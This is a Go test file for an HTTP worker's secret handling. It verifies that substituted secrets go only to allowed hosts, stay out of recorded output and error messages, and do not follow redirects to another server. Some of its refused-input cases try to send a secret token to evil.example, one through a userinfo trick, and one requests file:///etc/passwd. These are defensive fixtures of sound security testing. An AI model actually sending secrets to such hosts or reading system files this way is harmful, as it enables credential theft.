package work

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/quipu-journal/quipu/internal/store"
	"github.com/quipu-journal/quipu/internal/wire"
	"github.com/quipu-journal/quipu/journal"
	"github.com/quipu-journal/quipu/workers"
)

const (
	token    = `sk_live/"7&?#%+é`
	password = "pa:ss@w/o rd"
	number   = "1234567890123"
)

// secrets are those of a worker, for hosts.
func secrets(hosts ...string) func(string) (workers.Secret, error) {
	return func(name string) (workers.Secret, error) {
		v, ok := map[string]string{"TOKEN": token, "PW": password, "PIN": number, "SHORT": "1234567", "LINE": "a line\r\nX: y", "LONG": strings.Repeat("x", MaxSecret+1)}[name]
		if !ok {
			return workers.Secret{}, errors.New("this worker does not have it")
		}
		return workers.Secret{Value: v, Hosts: hosts}, nil
	}
}

// mirror answers with what it was sent, and keeps it.
type mirror struct {
	*httptest.Server
	mu  sync.Mutex
	got []*http.Request
}

func newMirror(t *testing.T, answer http.HandlerFunc) *mirror {
	m := &mirror{}
	m.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		m.mu.Lock()
		m.got = append(m.got, q)
		m.mu.Unlock()
		answer(w, q)
	}))
	t.Cleanup(m.Close)
	return m
}

func echoes(w http.ResponseWriter, q *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("X-Echo", q.Header.Get("X-Token"))
	body, _ := io.ReadAll(q.Body)
	_ = json.NewEncoder(w).Encode(map[string]any{"headers": q.Header, "uri": q.RequestURI, "query": q.URL.Query(), "body": string(body)})
}

// clean says that none of the secrets is in the text.
func clean(t *testing.T, text string) {
	t.Helper()
	quoted, err := json.Marshal(token)
	require.NoError(t, err)
	for _, s := range []string{token, password, number, strings.Trim(string(quoted), `"`), "sk_live", "pa%3Ass", "cGE6c3NAdy9vIHJk"} {
		require.NotContains(t, text, s)
	}
}

// S14: a secret reaches the receiver from headers and URL, and nothing that is recorded has
// it, though the receiver sends all of it back.
func TestS14SecretsAreSentAndNotRecorded(t *testing.T) {
	t.Parallel()
	m := newMirror(t, echoes)
	h := builtinHouse(t, workers.Builtins{Secrets: secrets("127.0.0.1")})
	at := strings.Replace(m.URL, "http://", "http://ada:${secret:PW}@", 1)
	input := fmt.Sprintf(`{"method":"POST","url":"%s/a/${secret:TOKEN}?k=${secret:TOKEN}&l=1#f","headers":{"X-Token":"Bearer ${secret:TOKEN}"},"body":"${secret:TOKEN}"}`, at)
	q := ask("http", 1, input)
	r := h.one(q)
	require.Equal(t, 200, r.Code, "%+v", r.Error)
	require.Equal(t, "Bearer "+token, m.got[0].Header.Get("X-Token"))
	require.Equal(t, token, m.got[0].URL.Query().Get("k"))
	require.Equal(t, "1", m.got[0].URL.Query().Get("l"))
	require.Equal(t, "/a/"+token, m.got[0].URL.Path)
	user, pw, _ := m.got[0].BasicAuth()
	require.Equal(t, []string{"ada", password}, []string{user, pw})
	clean(t, string(r.Output))
	require.Contains(t, string(r.Output), "Bearer ${secret:TOKEN}")
	require.Contains(t, string(r.Output), `"body":"${secret:TOKEN}"`, "a body is sent as it is")
	clean(t, string(h.store.Rows(guid(t, q))[0].Result))

	// where it makes a number of it, the body is recorded as text
	m = newMirror(t, func(w http.ResponseWriter, q *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = fmt.Fprintf(w, `{"pin":%s}`, q.Header.Get("Pin"))
	})
	r = h.one(ask("http", 2, fmt.Sprintf(`{"url":%q,"headers":{"Pin":"${secret:PIN}"}}`, m.URL)))
	require.Equal(t, `"{\"pin\":${secret:PIN}}"`, string(output(t, r.Output).Body))
}

// What is wrong with an input is said without the url, which may hold secrets (4.5), and what is wrong
// with a secret by its name (S14). One that is missing can be added: the attempt fails. Of a call that
// waits for its verifier nothing was sent.
func TestS14RefusedInputs(t *testing.T) {
	t.Parallel()
	const terminal, failed = journal.ResponseTerminal, journal.ResponseFailedAttempt
	h := builtinHouse(t, workers.Builtins{Secrets: secrets("127.0.0.1")})
	var many strings.Builder
	for i := range MaxSecretsOfCall + 1 {
		fmt.Fprintf(&many, "${secret:S%d}", i)
	}
	const post = `{"method":"POST","url":"http://127.0.0.1:1/","verify":`
	for i, c := range []struct {
		input string
		kind  journal.ResponseKind
		code  int
		class string
		said  string
	}{
		{`{"url":"http://127.0.0.1:1/${secret:AWAY}"}`, failed, 500, wire.ClassSecret, "secret AWAY: this worker does not have it"},
		{`{"url":"http://127.0.0.1:1/${secret:AWAY}","method":"POST"}`, failed, 500, wire.ClassSecret, "secret AWAY"},
		{`{"url":"http://127.0.0.1:1/${secret:AWAY}","method":"POST","verify":{"url":"http://127.0.0.1:1/"}}`, failed, 500, wire.ClassSecret, "secret AWAY"},
		{`{"url":"http://127.0.0.1:1/${secret:SHORT}"}`, failed, 500, wire.ClassSecret, "shorter than 8"},
		{`{"url":"http://127.0.0.1:1/${secret:LONG}"}`, failed, 500, wire.ClassSecret, "longer than 8192"},
		{`{"url":"http://127.0.0.1:1/${secret:LINE}"}`, failed, 500, wire.ClassSecret, "control characters"},
		{`{"url":"http://evil.example/${secret:TOKEN}"}`, terminal, 403, wire.ClassSecret, "secret TOKEN is not sent to evil.example"},
		{`{"url":"http://evil.example/","headers":{"X":"${secret:TOKEN}"}}`, terminal, 403, wire.ClassSecret, "secret TOKEN is not sent to evil.example"},
		{`{"url":"http://127.0.0.1@evil.example/","headers":{"X":"${secret:TOKEN}"}}`, terminal, 403, wire.ClassSecret, "secret TOKEN is not sent to evil.example"},
		{`{"url":"http://${secret:TOKEN}/"}`, terminal, 400, wire.ClassInput, "in the host"},
		{`{"url":"http://127.0.0.1${secret:TOKEN}/"}`, terminal, 400, wire.ClassInput, "in the host"},
		{`{"url":"${secret:TOKEN}"}`, terminal, 400, wire.ClassInput, "url has scheme"},
		{`{"url":"http://127.0.0.1:1/${secret:../x}"}`, terminal, 400, wire.ClassInput, "a secret is written"},
		{`{"url":"http://127.0.0.1:1/","headers":{"X":"${secret:TOKEN"}}`, terminal, 400, wire.ClassInput, "a secret is written"},
		{`{"url":"http://127.0.0.1:1/","method":"POST","verify":{"url":"http://127.0.0.1/","headers":{"X":"${secret:"}}}`, terminal, 400, wire.ClassInput, "verify: a secret is written"},
		{`{"url":"http://127.0.0.1:1/${secret:TOKEN}?${secret:PW}"}`, failed, 500, wire.ClassError, "refused"},
		{`{"url":"http://127.0.0.1:1/` + many.String() + `"}`, terminal, 400, wire.ClassInput, "17 secrets, the limit is 16"},
		{`{"url":"file:///etc/passwd"}`, terminal, 400, wire.ClassInput, ""},
		{`{"url":"ftp://h/x"}`, terminal, 400, wire.ClassInput, ""},
		{`{"url":"/x"}`, terminal, 400, wire.ClassInput, ""},
		{`{"url":"http://h\u007f/pa:ss@w/o rd"}`, terminal, 400, wire.ClassInput, ""},
		{`{}`, terminal, 400, wire.ClassInput, ""},
		{`{"url":"http://127.0.0.1","method":"A B"}`, terminal, 400, wire.ClassInput, ""},
		{`{"url":"http://user:sk_live@127.0.0.1:1/sk_live?sk_live=1"}`, failed, 500, wire.ClassError, "127.0.0.1:1"},
		{`{"url":"http://127.0.0.1:1/","verify":{"url":"http://x/"}}`, terminal, 400, wire.ClassInput, "nothing to be verified"},
		{post + `{}}`, terminal, 400, wire.ClassInput, "verify: url"},
		{post + `{"url":"ftp://x/"}}`, terminal, 400, wire.ClassInput, "verify: url"},
		{post + `{"url":"http://x/","method":"POST"}}`, terminal, 400, wire.ClassInput, "GET or HEAD"},
		{post + `{"url":"http://x/","mode":"odd"}}`, terminal, 400, wire.ClassInput, "strict, warn or human"},
		{post + `{"url":"http://x/","settle":"1h"}}`, terminal, 400, wire.ClassInput, "0s to 30s"},
		{post + `{"url":"http://127.0.0.1:1/"}}`, failed, 500, wire.ClassError, "refused"}, // there was no call: its verifier is not asked
		{post + `{"url":"http://x/","settle":"soon"}}`, terminal, 400, wire.ClassInput, "0s to 30s"},
	} {
		q := ask("http", byte(i), c.input)
		r := h.one(q)
		failedWith(t, r, c.kind, c.code, c.class, c.said)
		clean(t, r.Error.Message)
		if strings.Contains(c.input, `verify":{"url":"http://127.0.0.1:1`) {
			require.Equal(t, store.EffectNotDone, h.store.Rows(guid(t, q))[0].State)
		}
	}
	none := builtinHouse(t)
	require.Contains(t, none.one(ask("http", 1, `{"url":"http://127.0.0.1:1/${secret:TOKEN}"}`)).Error.Message, "secret TOKEN: this worker does not have it")
}

// S14: a redirect takes no secret to another host, in a header, a Referer or a URL, and
// none into an error.
func TestS14RedirectsTakeNoSecrets(t *testing.T) {
	t.Parallel()
	thief := newMirror(t, echoes)
	var m *mirror
	m = newMirror(t, func(w http.ResponseWriter, q *http.Request) {
		key := q.Header.Get("X-Api-Key")
		switch q.URL.Path {
		case "/away":
			http.Redirect(w, q, thief.URL+"/x", http.StatusFound)
		case "/back":
			http.Redirect(w, q, m.URL+"/end", http.StatusFound)
		case "/echo":
			http.Redirect(w, q, thief.URL+"/x?k="+q.URL.Query().Get("k"), http.StatusFound)
		case "/scheme":
			w.Header()["Location"] = []string{q.URL.Query().Get("k") + "://x/"}
			w.WriteHeader(http.StatusFound)
		case "/host":
			w.Header()["Location"] = []string{"http://" + q.URL.Query().Get("k") + ".invalid\x7f/"}
			w.WriteHeader(http.StatusFound)
		case "/junk":
			if c, buf, err := http.NewResponseController(w).Hijack(); err == nil {
				_, _ = buf.WriteString("HTTP/9 " + key + "\r\n\r\n")
				_ = buf.Flush()
				_ = c.Close()
			}
		}
	})
	h := builtinHouse(t, workers.Builtins{Secrets: secrets("127.0.0.1")})
	codes := map[string]int{}
	for i, path := range []string{"/away", "/back", "/echo", "/scheme", "/host", "/junk"} {
		r := h.one(ask("http", byte(i), fmt.Sprintf(`{"url":"%s%s?k=${secret:PIN}","headers":{"X-Api-Key":"${secret:PIN}","authorization":"Bearer ${secret:PIN}","X-Other":"o"}}`, m.URL, path)))
		codes[path] = r.Code
		if r.Error != nil {
			clean(t, r.Error.Message)
		}
		clean(t, string(r.Output))
	}
	require.Equal(t, map[string]int{"/away": 200, "/back": 200, "/echo": 500, "/scheme": 500, "/host": 500, "/junk": 500}, codes)
	require.Len(t, thief.got, 1)
	require.Equal(t, "o", thief.got[0].Header.Get("X-Other"))
	for name, values := range thief.got[0].Header {
		clean(t, fmt.Sprint(name, values))
	}
	end := slices.IndexFunc(m.got, func(q *http.Request) bool { return q.URL.Path == "/end" })
	require.Equal(t, number, m.got[end].Header.Get("X-Api-Key"), "the same host keeps it")
	require.Empty(t, m.got[end].Header.Get("Referer"))
}

// S14: headers that hold credentials are recorded if the flow asks for them.
func TestS14CredentialsAreNotRecorded(t *testing.T) {
	t.Parallel()
	m := newMirror(t, func(w http.ResponseWriter, _ *http.Request) {
		for name := range credentials {
			w.Header().Set(name, "session=1")
		}
		w.Header().Set("X-Plain", "yes")
	})
	h := builtinHouse(t)
	headers := func(n byte, more string) map[string]string {
		return output(t, h.one(ask("http", n, fmt.Sprintf(`{"url":%q%s}`, m.URL, more))).Output).Headers
	}
	plain := headers(1, "")
	for name := range credentials {
		require.NotContains(t, plain, name)
	}
	got := headers(2, `,"record_headers":["set-cookie"]`)
	require.Equal(t, "session=1", got["Set-Cookie"])
	require.Equal(t, "yes", got["X-Plain"])
	require.NotContains(t, got, "Authentication-Info")
}
